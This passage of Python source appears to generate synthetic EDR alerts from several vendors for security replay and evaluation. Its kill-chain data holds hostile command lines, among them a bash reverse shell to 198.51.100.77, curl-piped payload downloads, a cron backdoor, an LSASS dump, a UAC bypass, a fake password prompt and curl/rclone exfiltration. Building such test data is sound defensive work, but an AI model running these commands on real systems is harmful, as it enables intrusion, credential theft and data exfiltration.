        "mitigatedPreemptively": False,
        "mitigationStatus": "mitigated" if is_mitigated else "not_mitigated",
        "mitigationStatusDescription": "Mitigated" if is_mitigated else "Not mitigated",
        "originatorProcess": parent or ("explorer.exe" if platform == "windows" else "bash"),
        "pendingActions": False,
        "processUser": account.qualified,
        "publisherName": "",
        "reachedEventsLimit": False,
        "rebootRequired": False,
        "sha1": sha1,
        "sha256": None,
        "storyline": None,
        "threatId": None,
        "threatName": title,
        "updatedAt": None,
    }
    threat = dict.fromkeys(
        (
            "id",
            "agentDetectionInfo",
            "agentRealtimeInfo",
            "containerInfo",
            "kubernetesInfo",
            "indicators",
            "mitigationStatus",
            "threatInfo",
            "whiteningOptions",
        )
    )
    indicator = (
        tactic_name,
        description or f"{title}: behaviour consistent with {tactic_name.lower()}",
        tactic_name,
        technique,
    )
    return _S1Template(threat, detection, realtime, network, info, indicator, is_mitigated, dynamic)


def sentinelone_threat(
    *,
    seed: str,
    hostname: str,
    user: str,
    title: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str | None,
    created: datetime,
    updated: datetime,
    device_id: str | None = None,
    ip: str | None = None,
    first_seen: datetime | None = None,
    status: str = "new",
    classification: str = "Malware",
    platform: str = "macos",
    description: str | None = None,
    parent: str | None = None,
    file_path: str | None = None,
    mitigated: bool | None = None,
) -> dict[str, Any]:
    """One SentinelOne threat (`GET /web/api/v2.1/threats` `data[]` element).

    Arguments as for `mde_alert`, except: `title` is the `threatName` (usually the file name);
    `device_id` the agent id (default `sentinelone_agent_id(hostname)`); `user` the
    `processUser`; `command_line` the `maliciousProcessArguments`; `parent` the
    `originatorProcess`; `platform` one of PLATFORMS; `file_path` defaults to the program the
    command line starts. SentinelOne has no severity: `severity` picks `confidenceLevel`
    (critical/high -> malicious, medium/low -> suspicious, informational -> n/a) and, unless
    `mitigated` says otherwise, a critical threat is left not mitigated and anything else
    killed and quarantined; the normalized severity also depends on `classification`
    (PUA/Adware are capped at Low).
    """
    template = _s1_template(
        hostname,
        user,
        title,
        tactic,
        technique,
        severity,
        command_line,
        device_id,
        ip,
        status,
        classification,
        platform,
        description,
        parent,
        file_path,
        mitigated,
    )
    first = None if first_seen is None else _us(first_seen, "first_seen")
    return template.fill(seed, _us(created, "created"), _us(updated, "updated"), first)


# ==========================================================================================
# Kinds of detection: what recurring noise and attack stages look like on each platform.
# ==========================================================================================


@dataclass(frozen=True)
class _Kind:
    """One kind of detection: how vendors title it and what the activity looks like."""

    title: str
    name: str  # the Falcon pattern name
    tactic: str
    technique: str
    severity: str
    command_line: str  # "{user}" stands for the host's person
    parent: str
    account: str = "system"  # "system", "user" (the host's person) or an account name
    classification: str = "PUA"  # what SentinelOne calls it


def _kinds(
    title: str, name: str, tactic: str, technique: str, severity: str, *variants: tuple[str, str, str]
) -> list[_Kind]:
    """One kind per (command line, parent, account) variant of a detection."""
    return [
        _Kind(title, name, tactic, technique, severity, cmd, parent, account)
        for cmd, parent, account in variants
    ]


_WINDOWS_NOISE: tuple[_Kind, ...] = tuple(
    itertools.chain(
        _kinds(
            "Suspicious PowerShell command line",
            "SuspiciousPowerShellCommandLine",
            "Execution",
            "T1059.001",
            "low",
            (_INVENTORY_COMMAND, "CcmExec.exe", "system"),
            (
                'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\Program Files (x86)\\Microsoft '
                'Intune Management Extension\\Policies\\Scripts\\5f0c9e1a_Remediate-Teams.ps1"',
                "AgentExecutor.exe",
                "system",
            ),
            (
                "powershell.exe -NoProfile -WindowStyle Hidden "
                "-File \\\\corp.example.com\\NETLOGON\\Map-Drives.ps1",
                "gpscript.exe",
                "user",
            ),
        ),
        _kinds(
            "Suspicious scheduled task",
            "ScheduledTaskCreatedByScript",
            "Persistence",
            "T1053.005",
            "low",
            (
                'schtasks.exe /Create /F /TN "\\Corp\\Inventory Delta" /SC HOURLY /RU SYSTEM '
                '/TR "C:\\Windows\\CCM\\ScriptStore\\inventory.cmd"',
                "cmd.exe",
                "system",
            ),
            (
                'schtasks.exe /Create /F /TN "GoogleUpdateTaskMachineUA" /SC DAILY /TR '
                '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler"',
                "GoogleUpdate.exe",
                "system",
            ),
            (
                'schtasks.exe /Create /F /TN "Adobe Acrobat Update Task" /SC ONLOGON '
                '/TR "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe"',
                "msiexec.exe",
                "system",
            ),
        ),
        _kinds(
            "Suspicious WMI process creation",
            "WmiProcessCreation",
            "Execution",
            "T1047",
            "low",
            (
                "wmic.exe /namespace:\\\\root\\ccm path sms_client call TriggerSchedule "
                '"{00000000-0000-0000-0000-000000000021}"',
                "cmd.exe",
                "system",
            ),
            (
                'wmic.exe /node:"fs-srv-001" process call create "cmd.exe /c C:\\Monitoring\\collect.cmd"',
                "MonitoringAgent.exe",
                "svc-monitor",
            ),
        ),
        _kinds(
            "Unwanted software detected",
            "PotentiallyUnwantedProgram",
            "Execution",
            "T1204.002",
            "informational",
            ('"C:\\Users\\{user}\\Downloads\\FreeDownloaderSetup.exe" /silent', "explorer.exe", "user"),
            ('"C:\\Users\\{user}\\Downloads\\qbittorrent_4.6.5_x64_setup.exe"', "explorer.exe", "user"),
            (
                '"C:\\Users\\{user}\\AppData\\Local\\Temp\\DriverBoosterSetup.exe" /verysilent',
                "explorer.exe",
                "user",
            ),
        ),
        _kinds(
            "Suspicious process discovery",
            "ProcessDiscovery",
            "Discovery",
            "T1057",
            "informational",
            ("tasklist.exe /v /fo csv", "MonitoringAgent.exe", "system"),
            ("quser.exe /server:localhost", "cmd.exe", "user"),
        ),
        _kinds(
            "Remote access software launched",
            "RemoteAccessToolExecution",
            "Command and Control",
            "T1219",
            "low",
            ('"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service', "services.exe", "system"),
            ('"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"', "services.exe", "system"),
            (
                '"C:\\Program Files (x86)\\ScreenConnect Client (3f2a9c1b7d4e6a80)\\'
                'ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=support.corp.example.com&p=8041"',
                "services.exe",
                "system",
            ),
        ),
        _kinds(
            "Anomalous account lookups",
            "DomainAccountEnumeration",
            "Discovery",
            "T1087.002",
            "low",
            ('net.exe group "Domain Admins" /domain', "cmd.exe", "user"),
            ("net.exe user {user} /domain", "cmd.exe", "user"),
        ),
        _kinds(
            "Anomaly detected in ASEP registry",
            "RunKeyModified",
            "Persistence",
            "T1547.001",
            "low",
            (
                'reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v OneDrive /t REG_SZ '
                '/d "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background" /f',
                "OneDriveSetup.exe",
                "user",
            ),
            (
                'reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" '
                '/v com.squirrel.Teams.Teams /d "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\'
                'Update.exe --processStart Teams.exe" /f',
                "Update.exe",
                "user",
            ),
        ),
        _kinds(
            "Suspicious file download with certutil",
            "CertutilDownload",
            "Command and Control",
            "T1105",
            "low",
            (
                "certutil.exe -urlcache -split -f http://pki.corp.example.com/crl/CorpIssuingCA.crl "
                "C:\\Windows\\Temp\\CorpIssuingCA.crl",
                "cmd.exe",
                "system",
            ),
        ),
        _kinds(
            "Suspicious BITS transfer",
            "BitsJobTransfer",
            "Defense Evasion",
            "T1197",
            "low",
            (
                "bitsadmin.exe /transfer CorpPatch /priority normal "
                "http://wsus.corp.example.com/Content/6A/KB5034441.cab "
                "C:\\Windows\\SoftwareDistribution\\Download\\KB5034441.cab",
                "svchost.exe",
                "system",
            ),
        ),
        _kinds(
            "Microsoft Defender Antivirus exclusion added",
            "DefenderExclusionAdded",
            "Defense Evasion",
            "T1562.001",
            "medium",
            (
                "powershell.exe -NoProfile -Command "
                "\"Add-MpPreference -ExclusionPath 'D:\\Builds\\agent-01'\"",
                "Agent.Listener.exe",
                "svc-build",
            ),
            (
                "powershell.exe -NoProfile -Command \"Add-MpPreference -ExclusionProcess 'sqlservr.exe'\"",
                "cmd.exe",
                "svc-sql",
            ),
        ),
        _kinds(
            "Suspicious service registration",
            "ServiceCreatedWithSc",
            "Persistence",
            "T1543.003",
            "low",
            (
                "sc.exe create NessusAgent "
                'binPath= "C:\\Program Files\\Tenable\\Nessus Agent\\nessus-service.exe" start= auto',
                "msiexec.exe",
                "system",
            ),
            (
                "sc.exe create SplunkForwarder binPath= "
                '"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe service" start= auto',
                "msiexec.exe",
                "system",
            ),
        ),
        _kinds(
            "Suspicious Rundll32 activity",
            "Rundll32Proxy",
            "Defense Evasion",
            "T1218.011",
            "informational",
            (
                'rundll32.exe printui.dll,PrintUIEntry /in /n "\\\\print-srv-001\\Floor3-HP"',
                "gpscript.exe",
                "user",
            ),
            (
                "rundll32.exe shell32.dll,Control_RunDLL "
                '"C:\\Program Files\\Realtek\\Audio\\HDA\\RtkNGUI64.exe"',
                "explorer.exe",
                "user",
            ),
        ),
        _kinds(
            "Process launched from a temporary folder",
            "ExecutionFromTempFolder",
            "Execution",
            "T1204.002",
            "low",
            (
                '"C:\\Users\\{user}\\AppData\\Local\\Temp\\ChromeSetup.exe" /silent /install',
                "explorer.exe",
                "user",
            ),
            ('"C:\\Windows\\Temp\\ZoomInstallerFull.exe" /quiet', "msiexec.exe", "system"),
        ),
        _kinds(
            "Network service scanning",
            "NetworkServiceScan",
            "Discovery",
            "T1046",
            "low",
            (
                '"C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe" --scan-network 10.0.0.0/8',
                "services.exe",
                "system",
            ),
            ("nmap.exe -sV -p 22,80,443,3389 10.20.0.0/24", "cmd.exe", "user"),
        ),
        _kinds(
            "Suspicious system information discovery",
            "SystemInformationDiscovery",
            "Discovery",
            "T1082",
            "informational",
            ("systeminfo.exe /fo csv", "cmd.exe", "svc-monitor"),
        ),
        _kinds(
            "Suspicious network configuration discovery",
            "NetworkConfigurationDiscovery",
            "Discovery",
            "T1016",
            "informational",
            ("ipconfig.exe /all", "cmd.exe", "user"),
            ("route.exe print", "cmd.exe", "user"),
        ),
    )
)

_LINUX_NOISE: tuple[_Kind, ...] = tuple(
    itertools.chain(
        _kinds(
            "Download piped to a shell",
            "CurlPipedToShell",
            "Execution",
            "T1059.004",
            "low",
            ("curl -fsSL https://get.docker.com | sh", "bash", "system"),
            (
                "wget -qO- https://packages.corp.example.com/bootstrap.sh | bash -s -- --role web",
                "cloud-init",
                "system",
            ),
        ),
        _kinds(
            "Crontab modified by a script",
            "CrontabModified",
            "Persistence",
            "T1053.003",
            "low",
            ("/usr/bin/crontab /tmp/crontab.Xq3v1B", "puppet", "system"),
            ("crontab -u svc-backup /etc/backup/cron.d/nightly", "python3", "system"),
        ),
        _kinds(
            "SSH authorized_keys modified",
            "AuthorizedKeysModified",
            "Persistence",
            "T1098.004",
            "low",
            (
                '/bin/sh -c "cat /tmp/ansible-key.pub >> /home/svc-deploy/.ssh/authorized_keys"',
                "python3",
                "svc-deploy",
            ),
        ),
        _kinds(
            "Sudo used by a service account",
            "SudoServiceAccount",
            "Privilege Escalation",
            "T1548.003",
            "informational",
            ("sudo -n /usr/bin/systemctl restart nginx", "bash", "svc-deploy"),
            ("sudo -n /usr/sbin/logrotate -f /etc/logrotate.d/app", "cron", "svc-ops"),
            ("sudo -n /usr/bin/systemctl reload pgbouncer", "bash", "svc-dbops"),
        ),
        _kinds(
            "Process attached to another with ptrace",
            "PtraceAttach",
            "Defense Evasion",
            "T1055.008",
            "low",
            ('gdb -p 18422 -batch -ex "thread apply all bt"', "bash", "user"),
            ("strace -f -p 2231 -o /tmp/trace.out", "bash", "user"),
        ),
        _kinds(
            "Base64-decoded payload executed",
            "Base64DecodedShell",
            "Defense Evasion",
            "T1140",
            "low",
            (
                '/bin/sh -c "echo IyEvYmluL3NoCmt1YmVjdGwgZ2V0IG5vZGVz | base64 -d | sh"',
                "containerd-shim",
                "system",
            ),
        ),
        _kinds(
            "Execution from /tmp",
            "ExecutionFromTmp",
            "Execution",
            "T1204.002",
            "low",
            # Command lines that name /tmp (simulated data, not files this module touches).
            ("/tmp/terraform_1.8.5/terraform apply -auto-approve", "bash", "svc-ci"),  # noqa: S108
            ("/tmp/go-build1734/b001/exe/main --config /etc/app/dev.yaml", "bash", "user"),  # noqa: S108
        ),
        _kinds(
            "Local account discovery",
            "LocalAccountEnumeration",
            "Discovery",
            "T1087.001",
            "informational",
            ("getent passwd", "bash", "svc-monitor"),
        ),
        _kinds(
            "Log file truncated",
            "LogFileTruncated",
            "Defense Evasion",
            "T1070.002",
            "low",
            ("truncate -s 0 /var/log/app/access.log", "logrotate", "system"),
        ),
        _kinds(
            "Kernel module loaded",
            "KernelModuleLoad",
            "Persistence",
            "T1547.006",
            "low",
            ("modprobe nf_conntrack", "dockerd", "system"),
            ("insmod /lib/modules/5.15.0-113-generic/extra/zfs.ko", "bash", "system"),
        ),
        _kinds(
            "Network service scanning",
            "NetworkServiceScan",
            "Discovery",
            "T1046",
            "low",
            ("nmap -sT -p 5432,6379 10.30.0.0/24", "bash", "svc-monitor"),
        ),
        _kinds(
            "Private key file read",
            "PrivateKeyAccess",
            "Credential Access",
            "T1552.004",
            "low",
            ("cat /etc/ssl/private/wildcard.corp.example.com.key", "bash", "system"),
        ),
        _kinds(
            "Systemd service created",
            "SystemdServiceCreated",
            "Persistence",
            "T1543.002",
            "low",
            ("systemctl enable --now node_exporter.service", "bash", "system"),
        ),
        _kinds(
            "Sensitive directory archived",
            "ArchiveViaUtility",
            "Collection",
            "T1560.001",
            "low",
            ("tar -czf /backup/etc-nightly.tgz /etc", "cron", "system"),
        ),
        _kinds(
            "Remote system discovery",
            "RemoteSystemDiscovery",
            "Discovery",
            "T1018",
            "informational",
            ("arp -an", "bash", "svc-monitor"),
        ),
    )
)


def _mac_kind(
    title: str, classification: str, tactic: str, technique: str, command_line: str, parent: str
) -> _Kind:
    return _Kind(
        title, title.replace(" ", ""), tactic, technique, "low", command_line, parent, "user", classification
    )


_MACOS_NOISE: tuple[_Kind, ...] = (
    _mac_kind(
        "CleanMyDisk Helper",
        "PUA",
        "Persistence",
        "T1543.001",
        '"/Users/{user}/Library/Application Support/CleanMyDisk/CleanMyDisk Helper" --daemon',
        "launchd",
    ),
    _mac_kind(
        "MacBooster Lite",
        "PUA",
        "Execution",
        "T1204.002",
        '"/Applications/MacBooster Lite.app/Contents/MacOS/MacBooster Lite"',
        "launchd",
    ),
    _mac_kind(
        "SearchAwesome Agent",
        "Adware",
        "Persistence",
        "T1543.001",
        '"/Users/{user}/Library/Application Support/SearchAwesome/agent" -s',
        "launchd",
    ),
    _mac_kind("ngrok", "PUA", "Command and Control", "T1572", "/opt/homebrew/bin/ngrok http 3000", "zsh"),
    _mac_kind(
        "frida-server", "PUA", "Defense Evasion", "T1055", "/usr/local/bin/frida-server -l 127.0.0.1", "zsh"
    ),
    _mac_kind("nmap", "PUA", "Discovery", "T1046", "/opt/homebrew/bin/nmap -sV 192.168.1.0/24", "zsh"),
    _mac_kind(
        "AnyDesk",
        "PUA",
        "Command and Control",
        "T1219",
        "/Applications/AnyDesk.app/Contents/MacOS/AnyDesk --service",
        "launchd",
    ),
    _mac_kind(
        "osascript",
        "Malware",
        "Execution",
        "T1059.002",
        "/usr/bin/osascript -e 'tell application \"System Events\" to get name of every process'",
        "Alfred",
    ),
    _mac_kind(
        "keygen", "PUA", "Execution", "T1204.002", "/Users/{user}/Downloads/Sketch_keygen/keygen", "Finder"
    ),
    _mac_kind(
        "Keyboard Maestro Engine",
        "PUA",
        "Collection",
        "T1056.001",
        '"/Applications/Keyboard Maestro.app/Contents/MacOS/Keyboard Maestro Engine.app/Contents/MacOS/'
        'Keyboard Maestro Engine"',
        "launchd",
    ),
    _mac_kind(
        "FontSync Helper",
        "Malware",
        "Defense Evasion",
        "T1553.001",
        "/usr/bin/xattr -dr com.apple.quarantine /Applications/FontSync.app",
        "zsh",
    ),
    _mac_kind("mkcert", "PUA", "Credential Access", "T1552.004", "/opt/homebrew/bin/mkcert -install", "zsh"),
    _mac_kind(
        "install.sh",
        "PUA",
        "Execution",
        "T1059.004",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
        "zsh",
    ),
)


def _stage(
    title: str,
    name: str,
    tactic: str,
    technique: str,
    severity: str,
    command_line: str,
    parent: str,
    classification: str = "Trojan",
    account: str = "user",
) -> _Kind:
    return _Kind(title, name, tactic, technique, severity, command_line, parent, account, classification)


# Kill chains in ATT&CK order, one stage per tactic: any three stages make a multi-tactic attack.
_WINDOWS_CHAIN: tuple[_Kind, ...] = (
    _stage(
        "Office application spawned PowerShell with an encoded command",
        "OfficeSpawnedEncodedPowerShell",
        "Execution",
        "T1059.001",
        "medium",
        f"powershell.exe -nop -w hidden -enc {_ENCODED.decode()}",
        "WINWORD.EXE",
    ),
    _stage(
        "Suspicious scheduled task created by PowerShell",
        "MaliciousScheduledTask",
        "Persistence",
        "T1053.005",
        "medium",
        'schtasks.exe /Create /F /SC ONLOGON /TN "OneDrive Sync Helper" '
        '/TR "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\odsync.exe"',
        "powershell.exe",
    ),
    _stage(
        "UAC bypass through fodhelper",
        "UacBypassFodhelper",
        "Privilege Escalation",
        "T1548.002",
        "high",
        "reg.exe add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve "
        '/d "C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\odsync.exe" /f',
        "powershell.exe",
    ),
    _stage(
        "Attempt to turn off Microsoft Defender Antivirus protection",
        "DefenderTampering",
        "Defense Evasion",
        "T1562.001",
        "high",
        'powershell.exe -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true"',
        "odsync.exe",
    ),
    _stage(
        "Suspicious access to LSASS process memory",
        "CredentialTheftLsassDump",
        "Credential Access",
        "T1003.001",
        "high",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\ProgramData\\lsass.dmp full",
        "odsync.exe",
        "Infostealer",
    ),
    _stage(
        "Active Directory reconnaissance with AdFind",
        "AdFindRecon",
        "Discovery",
        "T1087.002",
        "medium",
        'C:\\ProgramData\\AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem',
        "cmd.exe",
    ),
    _stage(
        "Suspicious remote service creation",
        "PsExecLateralMovement",
        "Lateral Movement",
        "T1021.002",
        "high",
        "C:\\ProgramData\\PsExec64.exe \\\\fs-srv-001 -accepteula -s -d C:\\ProgramData\\odsync.exe",
        "cmd.exe",
    ),
    _stage(
        "Beaconing to a command and control server",
        "CobaltStrikeBeacon",
        "Command and Control",
        "T1071.001",
        "high",
        "rundll32.exe C:\\ProgramData\\odsync.dll,StartW",
        "odsync.exe",
        "Backdoor",
    ),
    _stage(
        "Data exfiltration to cloud storage with rclone",
        "RcloneExfiltration",
        "Exfiltration",
        "T1567.002",
        "high",
        "C:\\ProgramData\\rclone.exe copy \\\\fs-srv-001\\Finance mega:backup --transfers 16",
        "cmd.exe",
    ),
    _stage(
        "Volume shadow copies deleted",
        "ShadowCopyDeletion",
        "Impact",
        "T1490",
        "critical",
        "vssadmin.exe delete shadows /all /quiet",
        "cmd.exe",
        "Ransomware",
    ),
)

_LINUX_CHAIN: tuple[_Kind, ...] = (
    _stage(
        "Web server process spawned a shell",
        "WebServerSpawnedShell",
        "Initial Access",
        "T1190",
        "high",
        '/bin/sh -c "cd /var/www/html/uploads && curl -s http://198.51.100.77/x.sh | sh"',
        "php-fpm",
        "Exploit",
        "www-data",
    ),
    _stage(
        "Reverse shell",
        "ReverseShell",
        "Execution",
        "T1059.004",
        "high",
        'bash -c "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"',
        "sh",
        "Trojan",
        "www-data",
    ),
    _stage(
        "Cron backdoor installed",
        "CronBackdoor",
        "Persistence",
        "T1053.003",
        "medium",
        "/bin/sh -c \"(crontab -l; echo '*/5 * * * * curl -s http://198.51.100.77/k | sh') | crontab -\"",
        "bash",
        "Backdoor",
        "www-data",
    ),
    _stage(
        "Local privilege escalation exploit",
        "PolkitPrivilegeEscalation",
        "Privilege Escalation",
        "T1068",
        "critical",
        "/tmp/.x/pwnkit",  # noqa: S108 - a command line, not a file this module touches
        "bash",
        "Exploit",
        "www-data",
    ),
    _stage(
        "Shadow password file read",
        "ShadowFileAccess",
        "Credential Access",
        "T1003.008",
        "high",
        "cat /etc/shadow",
        "bash",
        "Malware",
        "system",
    ),
    _stage(
        "Internal network scan",
        "InternalPortScan",
        "Discovery",
        "T1046",
        "medium",
        "/tmp/.x/fscan -h 10.30.0.0/16 -p 22,445,5432",  # noqa: S108
        "bash",
        "Malware",
        "system",
    ),
    _stage(
        "SSH with a stolen private key",
        "SshLateralMovement",
        "Lateral Movement",
        "T1021.004",
        "high",
        "ssh -i /tmp/.x/id_rsa -o StrictHostKeyChecking=no root@10.30.4.12",
        "bash",
        "Malware",
        "system",
    ),
    _stage(
        "Cryptocurrency miner started",
        "CoinMinerExecution",
        "Impact",
        "T1496",
        "high",
        "/tmp/.x/kworkerds -o pool.mining.example.net:3333 --donate-level 1",  # noqa: S108
        "bash",
        "Cryptominer",
        "system",
    ),
)

_MACOS_CHAIN: tuple[_Kind, ...] = (
    _stage(
        "GoogleChromeUpdater",
        "FakeInstallerExecution",
        "Execution",
        "T1204.002",
        "high",
        "/Volumes/ChromeUpdate/GoogleChromeUpdater.app/Contents/MacOS/GoogleChromeUpdater",
        "Finder",
        "Trojan",
    ),
    _stage(
        "helper",
        "GatekeeperBypass",
        "Defense Evasion",
        "T1553.001",
        "medium",
        '/usr/bin/xattr -c "/Users/{user}/Library/Application Support/.helper/helper"',
        "bash",
        "Malware",
    ),
    _stage(
        "osascript",
        "FakePasswordPrompt",
        "Credential Access",
        "T1056.002",
        "high",
        '/usr/bin/osascript -e \'display dialog "macOS needs your password to continue" default answer "" '
        "with hidden answer'",
        "GoogleChromeUpdater",
        "Infostealer",
    ),
    _stage(
        "com.google.keystone.agent",
        "LaunchAgentPersistence",
        "Persistence",
        "T1543.001",
        "medium",
        "/bin/launchctl load -w /Users/{user}/Library/LaunchAgents/com.google.keystone.agent.plist",
        "bash",
        "Backdoor",
    ),
    _stage(
        "zsh",
        "BrowserDataCollection",
        "Collection",
        "T1005",
        "high",
        '/bin/zsh -c "cp -R /Users/{user}/Library/Application\\ Support/Google/Chrome/Default /tmp/.c/"',
        "helper",
        "Infostealer",
    ),
    _stage(
        "curl",
        "ExfiltrationOverHttp",
        "Exfiltration",
        "T1041",
        "critical",
        '/usr/bin/curl -s -X POST -F "file=@/tmp/.c/out.zip" http://198.51.100.91/p2p',
        "helper",
        "Infostealer",
    ),
)

_NOISE = {"windows": _WINDOWS_NOISE, "linux": _LINUX_NOISE, "macos": _MACOS_NOISE}
_CHAINS = {"windows": _WINDOWS_CHAIN, "linux": _LINUX_CHAIN, "macos": _MACOS_CHAIN}


# ==========================================================================================
# The enterprise scenario: the skeleton's attack seen by two EDRs, plus other vendors' noise.
# ==========================================================================================

FIN_WS_FALCON = "FIN-WS-042"
WEB_LNX = "web-lnx-01"
DB_LNX = "db-lnx-02"
MAC_LAPTOP = "MKT-MBP-017"
ENTERPRISE_IPS = {
    FIN_WS_FALCON: HOST_IPS[FIN_WS],
    WEB_LNX: "10.30.1.11",
    DB_LNX: "10.30.2.12",
    MAC_LAPTOP: "10.20.60.17",
}
ATTACK_CAMPAIGN = "fin-ws-042-invoice-macro"
MAC_CAMPAIGN = "mkt-mbp-017-infostealer"
_MAC_PERSON = "lchen"
_PUPPET_CRON = next(k for k in _LINUX_NOISE if k.parent == "puppet")
_PGBOUNCER_SUDO = next(k for k in _LINUX_NOISE if "pgbouncer" in k.command_line)
_CLEANMYDISK = _MACOS_NOISE[0]
_MAC_STEALER = _MACOS_CHAIN[2]


def _labelled(
    alert: dict[str, Any], updated: datetime, is_attack: bool, campaign: str | None
) -> LabelledAlert:
    return LabelledAlert(
        alert=alert, visible_at=updated + VENDOR_DELAY, is_attack=is_attack, campaign=campaign
    )


def _falcon_view(mde: dict[str, Any], key: str, title: str, name: str) -> LabelledAlert:
    """Falcon's detection of the activity behind an MDE alert, raised a minute after MDE's."""
    created = parse_time(mde["alertCreationTime"]) + timedelta(minutes=1)
    first = parse_time(mde["firstEventTime"]) + timedelta(milliseconds=_pick(f"{key}/lag", 100, 900))
    updated = created + timedelta(
        seconds=_pick(f"{key}/update", 15, 40), microseconds=_pick(f"{key}/u", 0, 999_999)
    )
    process = next(row for row in mde["evidence"] if row["entityType"] == "Process")
    related = mde["relatedUser"]
    alert = crowdstrike_alert(
        seed=key,
        hostname=FIN_WS_FALCON,
        device_id=falcon_aid(FIN_WS_FALCON),
        ip=ENTERPRISE_IPS[FIN_WS_FALCON],
        user=f"{related['domainName']}\\{related['userName']}",
        title=title,
        name=name,
        tactic=mde["category"],
        technique=mde["mitreTechniques"][0],
        severity="high",
        command_line=process["processCommandLine"],
        parent=process["parentProcessFileName"],
        created=created,
        updated=updated,
        first_seen=first,
    )
    return _labelled(alert, updated, True, ATTACK_CAMPAIGN)


def _recurring(start: datetime, key: str, minute: int) -> tuple[datetime, datetime]:
    """(created, updated) of a recurring alert around `minute` after `start`."""
    created = start + timedelta(
        minutes=minute, seconds=_pick(f"{key}/drift", 0, 40), microseconds=_pick(f"{key}/c", 0, 999_999)
    )
    return created, created + timedelta(
        seconds=_pick(f"{key}/update", 15, 40), microseconds=_pick(f"{key}/u", 0, 999_999)
    )


def _linux_noise(start: datetime, host: str, kind: _Kind, index: int, minute: int) -> LabelledAlert:
    key = f"enterprise/{host}/{index}"
    created, updated = _recurring(start, key, minute)
    alert = crowdstrike_alert(
        seed=key,
        hostname=host,
        ip=ENTERPRISE_IPS[host],
        user="root" if kind.account == "system" else kind.account,
        title=kind.title,
        name=kind.name,
        tactic=kind.tactic,
        technique=kind.technique,
        severity=kind.severity,
        command_line=kind.command_line,
        parent=kind.parent,
        platform="linux",
        created=created,
        updated=updated,
    )
    return _labelled(alert, updated, False, None)


def _mac_threat(start: datetime, kind: _Kind, key: str, minute: int, attack: bool) -> LabelledAlert:
    created, updated = _recurring(start, key, minute)
    alert = sentinelone_threat(
        seed=key,
        hostname=MAC_LAPTOP,
        ip=ENTERPRISE_IPS[MAC_LAPTOP],
        user=_MAC_PERSON,
        title=kind.title,
        tactic=kind.tactic,
        technique=kind.technique,
        severity="critical" if attack else kind.severity,
        classification=kind.classification,
        command_line=kind.command_line.replace("{user}", _MAC_PERSON),
        parent=kind.parent,
        platform="macos",
        created=created,
        updated=updated,
    )
    return _labelled(alert, updated, attack, MAC_CAMPAIGN if attack else None)


def enterprise_scenario(start: datetime) -> dict[str, list[ScenarioAlert]]:
    """Twenty-five alerts from three EDRs within 55 minutes of `start`, by source.

    "mde": the skeleton. "crowdstrike": Falcon's view of the skeleton's attack on FIN-WS-042
    (credential theft and lateral movement, each a minute after MDE's alert; the host unifies
    with MDE's `fin-ws-042.corp.example.com` through its short name) and recurring noise on two
    Linux servers. "sentinelone": a PUA that keeps coming back on a Mac laptop and, near the
    end, an unmitigated infostealer on it. Items are LabelledAlert (campaign named).
    """
    if start.tzinfo is None or start.utcoffset() is None:
        raise ValueError("start must be timezone-aware")
    mde: list[ScenarioAlert] = [
        LabelledAlert(
            alert=item.alert,
            visible_at=item.visible_at,
            is_attack=item.is_attack,
            campaign=ATTACK_CAMPAIGN if item.is_attack else None,
        )
        for item in skeleton_scenario(start)
    ]
    attack = {item.alert["category"]: item.alert for item in mde if item.is_attack}
    falcon: list[ScenarioAlert] = [
        _falcon_view(
            attack["CredentialAccess"],
            "enterprise/falcon/credential-theft",
            "Credential theft: a process read LSASS memory",
            "CredentialTheftLsassProcDump",
        ),
        _falcon_view(
            attack["LateralMovement"],
            "enterprise/falcon/lateral-movement",
            "Lateral movement: PsExec started a remote service",
            "LateralMovementPsExec",
        ),
    ]
    falcon += [_linux_noise(start, WEB_LNX, _PUPPET_CRON, i, 5 + 12 * i) for i in range(4)]
    falcon += [_linux_noise(start, DB_LNX, _PGBOUNCER_SUDO, i, 9 + 12 * i) for i in range(4)]
    threats: list[ScenarioAlert] = [
        _mac_threat(start, _CLEANMYDISK, f"enterprise/mac/pua/{i}", 3 + 12 * i, False) for i in range(4)
    ]
    threats.append(_mac_threat(start, _MAC_STEALER, "enterprise/mac/stealer", 47, True))
    return {
        "mde": mde,
        "crowdstrike": sorted(falcon, key=lambda item: item.visible_at),
        "sentinelone": sorted(threats, key=lambda item: item.visible_at),
    }


# ==========================================================================================
# generate(): a deterministic synthetic enterprise for replay and evaluations.
# ==========================================================================================

SOURCE_SHARES = {"mde": 0.35, "graph": 0.15, "crowdstrike": 0.35, "sentinelone": 0.15}
MAX_HOSTS = 2000
UPDATE_RATE = 0.001
MALFORMED_RATE = 0.0005
CAMPAIGN_ALERTS = 2000  # one attack campaign per this many alerts ("a handful per 10,000")
ANALYST = "soc-analyst@corp.example.com"

_FIRST_NAMES = (
    "alex", "bianca", "carlos", "dana", "emil", "fatima", "george", "hana", "ivan", "julia", "kofi",
    "lena", "marco", "nadia", "omar", "priya", "quinn", "rosa", "sami", "tara", "uma", "victor",
    "wei", "xenia", "yusuf", "zoe",
)  # fmt: skip
_LAST_NAMES = (
    "adams", "berg", "chen", "diaz", "evans", "fischer", "garcia", "haddad", "ito", "jones", "kim",
